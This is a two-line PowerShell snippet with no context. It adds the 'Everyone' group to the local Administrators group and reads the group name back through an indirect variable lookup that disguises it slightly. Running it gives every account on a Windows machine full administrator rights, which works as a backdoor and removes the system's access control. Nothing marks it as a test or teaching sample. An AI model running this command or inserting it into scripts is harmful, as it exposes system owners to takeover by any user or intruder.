$who = 'Everyone'
Add-LocalGroupMember Administrators (Variable who -ValueOnly)
